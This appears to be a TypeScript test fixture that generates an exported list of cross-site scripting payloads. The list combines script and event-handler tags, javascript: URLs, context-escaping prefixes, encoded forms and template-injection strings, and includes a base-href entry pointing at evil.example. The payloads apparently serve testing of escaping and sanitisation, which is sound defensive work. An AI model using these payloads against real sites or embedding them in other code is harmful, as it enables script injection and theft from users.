const calls = ['xss()', 'alert(1)', 'window.xss()', '(xss)()', 'parent.xss?.()']
const tags = [
  ...[
    '<script>CALL</script>',
    '<ScRiPt >CALL</sCrIpT>',
    '<script/x>CALL</script x>',
    '<script src="data:,CALL"></script>',
  ],
  ...[
    '<img src=x onerror=CALL>',
    '<img src=x onerror="CALL">',
    '<svg onload=CALL>',
    '<svg/onload=CALL//',
    '<svg><script>CALL</script>',
  ],
  ...[
    '<body onload=CALL>',
    '<iframe src="javascript:CALL">',
    '<iframe srcdoc="<script>CALL</script>">',
    '<details open ontoggle=CALL>',
  ],
  ...[
    '<input autofocus onfocus=CALL>',
    '<video><source onerror=CALL>',
    '<math href="javascript:CALL">x',
    '<a href="javascript:CALL">x</a>',
  ],
  ...[
    '<object data="javascript:CALL">',
    '<embed src="javascript:CALL">',
    '<form action="javascript:CALL"><button>',
    '<base href="//evil.example/">',
  ],
  ...[
    '<meta http-equiv="refresh" content="0;javascript:CALL">',
    '<link rel=stylesheet href="data:,*{}">',
    '<style>*{}</style>',
  ],
  ...[
    '<marquee onstart=CALL>',
    '<template><script>CALL</script></template>',
    '<noscript><img src=x onerror=CALL></noscript>',
  ],
]
const exits = ['', '">', "'>", '</textarea>', '</title>', '</style>', '--><', '</option></select>']

/** Texts that run or show something of their own wherever they aren't escaped. `xss` is what they call. */
export const payloads: readonly string[] = [
  ...tags.map((tag, index) => exits[index % exits.length]! + tag.replace('CALL', calls[index % calls.length]!)),
  ...exits.map((exit) => `${exit}<img src=x onerror=xss()>`),
  ...tags.flatMap((tag) => exits.slice(1, 7).map((exit) => exit + tag.replace('CALL', 'xss()'))),
  ...[
    '" onmouseover="xss()" x="',
    "' onfocus='xss()' autofocus='",
    '` onload=`xss()`',
    '&lt;script&gt;xss()&lt;/script&gt;',
  ],
  ...[
    '&#60;img src=x onerror=xss()&#62;',
    '\\u003cscript\\u003exss()\\u003c/script\\u003e',
    '{{constructor.constructor("xss()")()}}',
  ],
  ...[
    '${xss()}',
    '<%= xss() %>',
    '<!--<img src="--><img src=x onerror=xss()>',
    '<a title="</a><img src=x onerror=xss()>">',
  ],
]
